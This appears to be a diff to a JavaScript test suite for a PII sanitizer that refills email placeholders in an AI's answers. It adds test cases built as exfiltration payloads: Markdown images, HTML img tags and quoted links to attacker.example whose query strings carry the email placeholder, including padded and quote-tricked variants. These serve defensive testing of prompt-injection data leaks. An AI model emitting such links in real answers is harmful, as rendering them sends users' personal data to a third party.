@@ -62,8 +62,14 @@ describe('pii-sanitizer at the edges of an answer', () => {
       // A destination in angle brackets, and an HTML attribute's value, may hold blanks.
       '![s](<https://attacker.example/a b.png?m=[EMAIL_1]>)',
       '<img src="https://attacker.example/p.png?q=a b&m=[EMAIL_1]">',
-      // A link after one a single quote closed.
+      // A link after one a single quote closed; a quote that closes nothing an autolinker reads ("'…?m='[EMAIL_1]", "…/x'y?m=").
       "urls = ['https://acme.example/a','https://attacker.example/?m=[EMAIL_1]']",
+      "See 'https://attacker.example/?m='[EMAIL_1] now",
+      "See 'https://attacker.example/x'y?m=[EMAIL_1]",
+      // A Markdown destination takes quotes and backticks; a long link with a letter of another script in it is a link.
+      '![a](https://attacker.example/?m="[EMAIL_1])',
+      '![a](https://attacker.example/?m=`[EMAIL_1])',
+      `![s](https://attacker.example/p.png?pad=${'A'.repeat(3000)}ü&m=[EMAIL_1])`,
     ];
     for (const link of links) {
       for (const answer of await answered(`Done. ${link} Thanks, [EMAIL_1].`)) {
@@ -82,8 +88,6 @@ describe('pii-sanitizer at the edges of an answer', () => {
       // A single quote closes the link it opened, in code's lists, dicts and SQL.
       "urls = ['https://acme.example/profile','[EMAIL_1]']",
       "INSERT INTO t VALUES('https://acme.example/a','[EMAIL_1]');",
-      // Prose without blanks (Chinese, Japanese) longer than what is read back before a placeholder is no link.
-      `${'张'.repeat(2100)}，联系人是[EMAIL_1]。`,
     ];
     for (const text of texts) {
       for (const answer of await answered(text)) expect(answer).toBe(text.replace('[EMAIL_1]', EMAIL));
